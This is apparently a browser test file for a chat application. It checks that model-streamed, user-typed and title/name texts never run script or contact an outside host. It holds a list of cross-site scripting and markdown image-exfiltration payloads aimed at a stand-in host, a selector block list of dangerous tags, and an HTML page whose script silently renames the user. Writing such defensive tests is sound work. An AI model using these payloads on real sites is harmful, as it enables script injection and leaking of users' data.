"""What a model writes, what people write, and how they call things: none of it ever runs, or reaches another host.

The hostile texts arrive on every way there is: streamed piece by piece by a model, said by a person, as a title and
as a name. The walk watches every request of the page, every dialog, and what stands in the document in the end.
"""

import pytest
from playwright.async_api import Dialog, Error as PlaywrightError, Page, Request, Route, expect
from tests.support.browser import Browser
from tests.support.server import Serve, ServerProcess
from tests.support.upstream import Head, reply, scripted_upstream
from tests.walks.tab import Tab, arrive

pytestmark = [pytest.mark.browser, pytest.mark.slow]

ELSEWHERE = "https://elsewhere.example"
HOSTILE = (
    "<script>window.ran = 1</script>",
    f"<script src='{ELSEWHERE}/a.js'></script>",
    "<img src=x onerror='window.ran = 2; alert(2)'>",
    f"<img src='{ELSEWHERE}/b.png'> ![secret]({ELSEWHERE}/c.png?q=secret)",
    f"![again][leak]\n\n[leak]: {ELSEWHERE}/d.png",
    "<svg onload='window.ran = 3'><script>window.ran = 4</script></svg>",
    f"<svg><image href='{ELSEWHERE}/e.svg'/></svg>",
    f"<iframe src='{ELSEWHERE}/f'></iframe><iframe srcdoc='<script>parent.ran = 5</script>'></iframe>",
    f"<object data='{ELSEWHERE}/g'></object><embed src='{ELSEWHERE}/h'>",
    f"<video poster='{ELSEWHERE}/i.png' src='{ELSEWHERE}/i.mp4' autoplay></video>",
    f"<link rel=stylesheet href='{ELSEWHERE}/j.css'><link rel=prefetch href='{ELSEWHERE}/k'>",
    f"<style>body {{ background: url({ELSEWHERE}/l.png) }}</style>",
    f"<div style='background: url({ELSEWHERE}/m.png); position: fixed; inset: 0'>over</div>",
    f"<base href='{ELSEWHERE}/'><meta http-equiv=refresh content='0; url={ELSEWHERE}/n'>",
    f"<form action='{ELSEWHERE}/o'><input autofocus onfocus='window.ran = 6'><button>ok</button></form>",
    "<details open ontoggle='window.ran = 7'><summary>see</summary></details>",
    "[run](javascript:window.ran=8) [also](data:text/html,<script>alert(1)</script>)",
    "[space]( java\nscript:window.ran=9) <javascript:window.ran=10> [v](vbscript:msgbox)",
    "<a href='&#106;avascript:window.ran=11'>entity</a> <a id=app name=app>clobber</a>",
    "$\\href{javascript:window.ran=12}{x}$ and $$\\htmlData{x=y}{z} \\includegraphics{"
    + ELSEWHERE
    + "/p.png}$$",
    '```"><img src=x onerror=window.ran=13>\n</code></pre><img src=x onerror=window.ran=14>\n```',
    "| a |\n| --- |\n| <img src=x onerror=window.ran=15> |",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=16></style></mglyph></table></mtext></math>",
)
ENDS = "This is where it ends."
FORBIDDEN = (
    "script, iframe, object, embed, style, link, base, meta, form, video, audio, img, image, svg image,"
    " [style], [srcdoc], [onerror], [onload], [ontoggle], [onfocus], [onclick],"
    " a[href^='javascript' i], a[href^='data' i], a[href^='vbscript' i]"
)


class Watched:
    """Everything that a page tried."""

    def __init__(self, page: Page, server: ServerProcess) -> None:
        self.dialogs: list[str] = []
        self.foreign: list[str] = []
        self._own = (server.url, server.ws_url, "about:", "data:", "blob:")
        page.context.on("request", self._asked)
        page.context.on("dialog", self._spoke)

    def _asked(self, request: Request) -> None:
        if not request.url.startswith(self._own):
            self.foreign.append(request.url)

    async def _spoke(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        await dialog.dismiss()


async def harmless(tab: Tab, watched: Watched) -> None:
    """Nothing ran, nothing left, and nothing in the messages could do either."""
    assert watched.dialogs == []
    assert watched.foreign == []
    assert await tab.page.evaluate("window.ran") is None
    for message in await tab.page.locator('[data-testid="message-text"]').all():
        assert await message.locator(FORBIDDEN).count() == 0, await message.inner_html()
    for link in await tab.page.locator('[data-testid="message-text"] a[href]').all():
        assert "noopener" in (await link.get_attribute("rel") or "")
        assert await link.get_attribute("target") == "_blank"


def pieces(text: str, size: int = 7) -> list[str]:
    """A text as a model streams it, cut in the middle of tags and addresses."""
    return [text[start : start + size] for start in range(0, len(text), size)]


async def test_nothing_that_is_written_runs_or_reaches_another_host(
    browser: Browser, serve: Serve
) -> None:
    everything = "\n\n".join((*HOSTILE, ENDS))
    async with scripted_upstream() as upstream:
        upstream.default = reply(*pieces(everything))
        server = await serve(
            environment={"OPENAI_BASE_URL": upstream.base_url, "PALAVER_MODEL": "scripted"}
        )
        blank = await browser.open("about:blank")
        watched = Watched(blank, server)
        tab = await arrive(browser, server.url, beside=blank)
        await tab.say(everything)
        await tab.answered()
        await expect(tab.answers.last).to_contain_text(ENDS)
        await harmless(tab, watched)
        room = tab.room
        for title in (HOSTILE[2], HOSTILE[5]):
            await tab.page.request.patch(f"{server.url}/api/rooms/{room}", data={"title": title})
            await expect(tab.part("room-title")).to_have_text(title)
        await tab.page.request.patch(f"{server.url}/api/me", data={"name": HOSTILE[2]})
        await tab.page.reload()
        await tab.answered()
        await expect(tab.part("person")).to_contain_text(HOSTILE[2])
        await harmless(tab, watched)
        await browser.screenshot(tab.page, "hostile")


async def test_each_hostile_text_alone_is_as_harmless(browser: Browser, serve: Serve) -> None:
    async with scripted_upstream() as upstream:
        server = await serve(
            environment={"OPENAI_BASE_URL": upstream.base_url, "PALAVER_MODEL": "scripted"}
        )
        blank = await browser.open("about:blank")
        watched = Watched(blank, server)
        tab = await arrive(browser, server.url, beside=blank)
        await tab.say("first")  # the model names the room too
        await tab.answered()
        await upstream.arrived(2)
        upstream.will(*(reply(*pieces(text, 3), f"\n\n{ENDS}") for text in HOSTILE))
        for number, text in enumerate(HOSTILE):
            asked = await tab.page.request.post(
                f"{server.url}/api/rooms/{tab.room}/messages",
                data={"cid": f"hostile-{number}", "text": text},
            )
            assert asked.status == 201
            await tab.answered(number + 2)
        await harmless(tab, watched)


RENAMING = b"""<!doctype html><title>evil</title><script>
fetch('/api/me', {method: 'PATCH', headers: {'content-type': 'application/json'}, body: '{"name": "Renamed"}'})
  .then(() => fetch('/api/rooms')).then(() => { document.title = 'ran' })
</script>"""


async def test_a_page_that_the_model_server_sends_below_v1_is_neither_shown_nor_run(
    browser: Browser, serve: Serve
) -> None:
    async with scripted_upstream(everywhere=True) as upstream:
        upstream.default = (Head(headers={"content-type": "text/html"}), RENAMING)
        server = await serve(environment={"OPENAI_BASE_URL": upstream.base_url})
        tab = await arrive(browser, server.url)
        page = await tab.page.context.new_page()
        evil = f"{server.url}/v1/files/evil"
        shown = await page.goto(evil)
        assert shown is not None
        assert shown.status == 403
        assert [one for one in upstream.requests if one.path.endswith("evil")] == []
        # An older browser does not say what it wants it for, and gets the answer.
        got = await page.request.get(evil)
        assert await got.body() == RENAMING
        kept: set[str] = set()

        async def old(route: Route) -> None:
            headers = {name: one for name, one in got.headers.items() if name in kept}
            await route.fulfill(
                status=200, content_type="text/html", body=RENAMING, headers=headers
            )

        async def name() -> str:
            return (await (await page.request.get(f"{server.url}/api/me")).json())["name"]

        await page.route(evil, old)
        was = await name()
        kept = {"content-disposition"}
        async with page.expect_download() as file:
            with pytest.raises(PlaywrightError, match="Download"):
                await page.goto(evil)
        await (await file.value).delete()
        kept = {"content-security-policy"}
        await page.goto(evil, wait_until="networkidle")
        assert (await page.title(), await name()) == ("evil", was)
        kept = set()  # and so it would be without any of it
        await page.goto(evil)
        await expect(page).to_have_title("ran")
        assert await name() == "Renamed"
